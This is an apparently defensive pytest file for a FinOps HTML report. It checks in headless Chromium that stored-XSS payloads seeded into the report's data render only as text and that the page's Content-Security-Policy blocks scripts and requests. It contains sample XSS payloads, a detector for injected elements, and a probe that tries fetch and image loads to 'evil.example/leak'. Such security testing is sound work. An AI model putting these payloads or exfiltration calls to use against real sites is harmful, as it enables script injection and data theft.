"""Stored XSS (issue 17, point 1): a data folder whose every text dimension carries a payload, the whole report
built from it, and every page and the index opened in headless Chromium with listeners.

The folder (``tests/hostile_data.py``) puts the payload corpus in team, application, feature, environment, project
(sub-account), a tag key and value, the charge description, the model, the key alias, the team alias, the
experiment and the variant. One ``finops report`` run (module fixture); then, per page:

* the page's first ``<head>`` element is the Content-Security-Policy ``<meta>`` (no network, no eval);
* no dialog opened (every payload calls ``alert``), no ``alert``/``confirm``/``prompt`` reached, no console error or
  uncaught exception, no CSP violation (nothing even tried to load), no request other than the page's own files;
* no element the data could have injected: no ``on*`` attribute, no ``javascript:``/``http:`` address in ``src``,
  ``href`` or ``action``, no ``<iframe>``, ``<base>``, ``<img>``, ``<object>``, ``<embed>``, ``<form>``, and no
  ``<style>`` or ``<script>`` in the page body other than the report's own;
* every payload whose marker the page shows is shown whole, as text (``innerText`` of the page, the text of the
  charts' SVG; a chart label Vega cut to its width counts when it is the payload's start); models are lower-cased by
  the loaders (canonical model ids), so the comparison ignores case; a null byte shows as U+FFFD;
* every payload reaches some page, and every page but the index draws its charts under the policy.

And the policy is live, not only written: from inside the index and a page, ``eval``, ``fetch`` and a remote image
are refused by it before any request is made.
"""

from __future__ import annotations

import time
from html.parser import HTMLParser
from pathlib import Path

import pytest
from browser_util import CHROMIUM, files_only
from hostile_data import PAYLOADS, build

from finops_lib.cli import main
from finops_lib.offline import REPLACEMENT_CHAR
from finops_lib.report import CATALOG
from finops_lib.report.html import INDEX_POLICY, PAGE_POLICY

pytestmark = [
    pytest.mark.browser,
    pytest.mark.slow,
    pytest.mark.skipif(not CHROMIUM.exists(), reason=f"headless Chromium not installed at {CHROMIUM}"),
]
PAGES = ["index", *(entry.stem for entry in CATALOG)]
#: Each payload as a reader sees it: a null byte shows as U+FFFD (documented in ``finops_lib.offline``).
DISPLAYED = {marker: payload.replace("\x00", REPLACEMENT_CHAR) for marker, payload in PAYLOADS.items()}

#: Before any page script: every way a payload could show itself is recorded in window.__xss.
TRAP = """(() => {
    window.__xss = [];
    for (const name of ['alert', 'confirm', 'prompt', 'print']) {
        const original = window[name];
        window[name] = function (...args) { window.__xss.push(name + ': ' + args.join(' '));
                                            return original.apply(window, args); };
    }
})()"""

#: What the data could have injected, as found in the rendered DOM.
INJECTED = """() => {
    const found = [];
    for (const el of document.querySelectorAll('*')) {
        for (const attr of el.attributes) {
            const name = attr.name.toLowerCase(), value = attr.value.trim().toLowerCase();
            if (name.startsWith('on')) { found.push(`${el.tagName} ${name}`); }
            if (['src', 'href', 'action', 'xlink:href', 'formaction', 'data'].includes(name) &&
                /^(javascript:|https?:|\\/\\/)/.test(value)) { found.push(`${el.tagName} ${name}=${value}`); }
        }
    }
    for (const tag of ['iframe', 'base', 'img', 'object', 'embed', 'form', 'frame']) {
        for (const el of document.querySelectorAll(tag)) {
            // Vega's own (empty) container of chart controls is a form without an action
            if (tag === 'form' && el.className === 'vega-bindings' && !el.hasAttribute('action')) { continue; }
            found.push(`<${tag}> ${el.outerHTML.slice(0, 120)}`);
        }
    }
    for (const el of document.querySelectorAll('body style')) {
        if (/display\\s*:\\s*none/.test(el.textContent) && /body/.test(el.textContent)) {
            found.push(`<style> ${el.textContent.slice(0, 120)}`);
        }
    }
    for (const el of document.querySelectorAll('script')) {
        if (/^\\s*alert\\(/.test(el.textContent)) { found.push(`<script> ${el.textContent.slice(0, 120)}`); }
    }
    return found;
}"""

#: Everything a reader sees as text: the page, the charts' SVG text (axis, legend and title labels), the title.
SHOWN = """() => [document.title, document.body.innerText,
                  ...[...document.querySelectorAll('svg text')].map(t => t.textContent)].join('\\n')"""

CHARTS_DRAWN = """() => [...document.querySelectorAll('.finops-vega')].every(el => el.querySelector('svg'))"""


def _csp(page: object) -> list[str]:
    """The policies the page's ``<head>`` declares (vega-embed adds its tooltip style before them at run time)."""
    return page.evaluate("""() => [...document.head.querySelectorAll('meta[http-equiv="Content-Security-Policy"]')]
        .map(meta => meta.getAttribute('content'))""")


class _FirstTag(HTMLParser):
    """The first start tag inside ``<head>`` of a page's source, with its attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.in_head, self.first = False, None

    def handle_starttag(self, tag: str, attrs: list) -> None:
        if tag == "head":
            self.in_head = True
        elif self.in_head and self.first is None:
            self.first = (tag, dict(attrs))


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, float]:
    """``finops report`` on the hostile folder, once: (report folder, seconds the build took)."""
    root = tmp_path_factory.mktemp("hostile")
    folder = build(root / "data")
    out = root / "report"
    started = time.perf_counter()
    code = main(["report", "--data", str(folder), "--out", str(out), "--warehouse", str(root / "ws")])
    seconds = time.perf_counter() - started
    assert code == 0, f"finops report exited {code}: see {out / 'index.html'}"
    return out, seconds


@pytest.fixture(scope="module")
def visits(hostile_report: tuple[Path, float], browser: object) -> dict[str, dict]:
    """Every page and the index opened offline in Chromium, with dialog, console, error and request listeners."""
    report, _ = hostile_report
    seen = {}
    for stem in PAGES:
        context = browser.new_context(viewport={"width": 1200, "height": 900})
        context.add_init_script(TRAP)
        page = context.new_page()
        record: dict = {"dialogs": [], "console": [], "errors": [], "requests": []}
        page.on("dialog", lambda dialog, r=record: (r["dialogs"].append(dialog.message), dialog.dismiss()))
        page.on("console", lambda message, r=record: r["console"].append(f"{message.type}: {message.text}"))
        page.on("pageerror", lambda error, r=record: r["errors"].append(str(error)))
        page.on("request", lambda request, r=record: r["requests"].append(request.url))
        try:
            page.goto((report / f"{stem}.html").as_uri(), wait_until="load")
            page.wait_for_function(CHARTS_DRAWN, timeout=30_000)
            page.wait_for_timeout(300)  # a late onerror/onload would fire by now
            record.update(policy=_csp(page), injected=page.evaluate(INJECTED), shown=page.evaluate(SHOWN),
                          trapped=page.evaluate("() => window.__xss"),
                          charts=page.evaluate("() => document.querySelectorAll('.finops-vega svg').length"))
        finally:
            context.close()
        seen[stem] = record
    return seen


def shown_payloads(text: str) -> tuple[set[str], set[str]]:
    r"""Return (markers the text shows, markers shown as their payload's text) for the corpus, ignoring case.

    Shown as text: the whole payload somewhere, or a chart label Vega cut to its width: a line that is the start of
    the payload, marker included, followed by an ellipsis.

    Examples
    --------
    >>> markers, whole = shown_payloads('Team <script>alert("XSS01")</script> and XSS02 cut\n<img src=x onerror=al…')
    >>> sorted(markers), sorted(whole)
    (['XSS01', 'XSS02'], ['XSS01'])
    >>> sorted(shown_payloads('</script><script>alert("XSS05")…')[1])
    ['XSS05']
    """
    folded = text.casefold()
    lines = [line.strip() for line in folded.splitlines()]
    markers = {m for m in PAYLOADS if m.casefold() in folded}
    whole = set()
    for marker in markers:
        payload = DISPLAYED[marker].casefold()
        cut = any(line.endswith("…") and marker.casefold() in line and payload.startswith(line[:-1])
                  for line in lines)  # fmt: skip
        if payload in folded or cut:
            whole.add(marker)
    return markers, whole


@pytest.mark.parametrize("stem", PAGES)
def test_no_payload_runs_and_nothing_leaves_the_page(visits: dict[str, dict], stem: str) -> None:
    seen = visits[stem]
    assert seen["dialogs"] == [] and seen["trapped"] == [], (stem, seen["dialogs"], seen["trapped"])
    assert seen["errors"] == [], (stem, seen["errors"])
    bad_console = [m for m in seen["console"] if m.startswith("error") or "Content Security Policy" in m]
    assert bad_console == [], (stem, bad_console)
    foreign = [url for url in seen["requests"] if not url.startswith(("file:", "data:", "blob:"))]
    assert foreign == [], (stem, foreign)
    assert seen["injected"] == [], (stem, seen["injected"])


@pytest.mark.parametrize("stem", PAGES)
def test_every_page_carries_the_policy(visits: dict[str, dict], hostile_report: tuple[Path, float],
                                       stem: str) -> None:  # fmt: skip
    expected = INDEX_POLICY if stem == "index" else PAGE_POLICY
    assert visits[stem]["policy"] == [expected], stem
    assert "connect-src 'none'" in expected and "default-src 'none'" in expected and "unsafe-eval" not in expected
    first = _FirstTag()
    first.feed((hostile_report[0] / f"{stem}.html").read_text(encoding="utf-8"))
    assert first.first == ("meta", {"http-equiv": "Content-Security-Policy", "content": expected}), stem


@pytest.mark.parametrize("stem", PAGES)
def test_every_payload_shown_is_shown_whole_as_text(visits: dict[str, dict], stem: str) -> None:
    markers, whole = shown_payloads(visits[stem]["shown"])
    assert markers, f"{stem}: no payload reached the page, so the page proves nothing"
    assert markers == whole, (stem, sorted(markers - whole))


def test_the_corpus_reaches_every_page_and_charts_draw(visits: dict[str, dict],
                                                       hostile_report: tuple[Path, float]) -> None:  # fmt: skip
    _, seconds = hostile_report
    shown = {stem: shown_payloads(seen["shown"])[1] for stem, seen in visits.items()}
    everywhere = set().union(*shown.values())
    checks = sum(len(markers) for markers in shown.values())
    print(f"\nhostile report: built in {seconds:.1f} s; {len(PAGES)} pages; {checks} payload x page checks; "
          f"{sum(seen['charts'] for seen in visits.values())} charts drawn; per page: "
          + ", ".join(f"{stem} {len(m)}" for stem, m in shown.items()))  # fmt: skip
    assert everywhere == set(PAYLOADS), sorted(set(PAYLOADS) - everywhere)
    for stem, seen in visits.items():
        if stem != "index":
            assert seen["charts"] > 0, f"{stem}: no chart drew under the policy"


#: From inside a page: what a script the page did not ship, eval in it, fetch and a remote image do (the policy must
#: stop the eval, or on the index the script itself, and the two requests before they are made).
PROBE = """async () => {
    const out = {};
    const script = document.createElement('script');
    // run later, as page code: DevTools lets eval through while its own evaluation lasts
    script.textContent = "setTimeout(() => { try { eval('1'); window.__eval = 'ran'; } " +
                         "catch (e) { window.__eval = e.name; } }, 0);";
    document.body.appendChild(script);
    await new Promise(done => setTimeout(done, 200));
    out.eval = window.__eval || 'script refused';
    try { await fetch('http://evil.example/leak'); out.fetch = 'ran'; } catch (e) { out.fetch = e.name; }
    const img = new Image();
    await new Promise(done => { img.onerror = done; img.onload = done; img.src = 'http://evil.example/x.png'; });
    out.img = img.naturalWidth > 0 ? 'loaded' : 'refused';
    return out;
}"""


@pytest.mark.parametrize("stem", ["index", "00_data_overview"])
def test_the_policy_is_enforced_not_only_present(hostile_report: tuple[Path, float], browser: object,
                                                 stem: str) -> None:  # fmt: skip
    context = browser.new_context()
    attempted = files_only(context)  # a request the policy let through would be seen (and aborted) here
    page = context.new_page()
    console: list[str] = []
    page.on("console", lambda message: console.append(message.text))
    try:
        page.goto((hostile_report[0] / f"{stem}.html").as_uri(), wait_until="load")
        probe = page.evaluate(PROBE)
    finally:
        context.close()
    # pages allow their inline scripts but no eval; the index allows no script at all
    scripted = "script refused" if stem == "index" else "EvalError"
    assert probe == {"eval": scripted, "fetch": "TypeError", "img": "refused"}, (stem, probe)
    assert attempted == [], (stem, attempted)
    refused = " ".join(m for m in console if "Content Security Policy" in m)
    expected = ["Connecting to 'http://evil.example/leak'", "Loading the image 'http://evil.example/x.png'"]
    expected += ["Executing inline script violates"] if stem == "index" else []
    assert all(what in refused for what in expected), (stem, console)  # each refused by the policy, and said so


#: Chart marks a reader can point at (bars, points, areas): their tooltips show data text.
MARKS = ".finops-vega svg g.mark-rect path, .finops-vega svg g.mark-symbol path, .finops-vega svg g.mark-area path"

TOOLTIP = """() => { const tip = document.getElementById('vg-tooltip-element');
    return tip && tip.classList.contains('visible') ? tip.innerText : ''; }"""


def test_chart_tooltips_show_payloads_as_text(hostile_report: tuple[Path, float], browser: object) -> None:
    """Point at up to 30 marks of every page's charts: each tooltip is text, nothing runs, nothing is injected."""
    shown: dict[str, set[str]] = {}
    for stem in PAGES[1:]:
        context = browser.new_context(viewport={"width": 1200, "height": 900})
        context.add_init_script(TRAP)
        page = context.new_page()
        dialogs: list[str] = []
        page.on("dialog", lambda dialog, d=dialogs: (d.append(dialog.message), dialog.dismiss()))
        try:
            page.goto((hostile_report[0] / f"{stem}.html").as_uri(), wait_until="load")
            page.wait_for_function(CHARTS_DRAWN, timeout=30_000)
            marks = page.locator(MARKS)
            count, tips = marks.count(), []
            for i in range(0, count, max(1, count // 30)):
                box = marks.nth(i).bounding_box()
                if box is None or box["width"] < 1 or box["height"] < 1:
                    continue  # a zero-width bar (a 0% share) cannot be pointed at
                marks.nth(i).hover(force=True, timeout=5_000)
                tips.append(page.evaluate(TOOLTIP))
            injected, trapped = page.evaluate(INJECTED), page.evaluate("() => window.__xss")
        finally:
            context.close()
        assert dialogs == [] and trapped == [] and injected == [], (stem, dialogs, trapped, injected)
        markers, whole = shown_payloads("\n".join(tips))
        assert markers == whole, (stem, sorted(markers - whole))
        shown[stem] = whole
    print("\ntooltips: payloads shown as text per page: " + ", ".join(f"{s} {len(m)}" for s, m in shown.items()))
    assert len(shown["10_cost_attribution"]) >= 10, shown  # the team charts: their tooltips carry the corpus
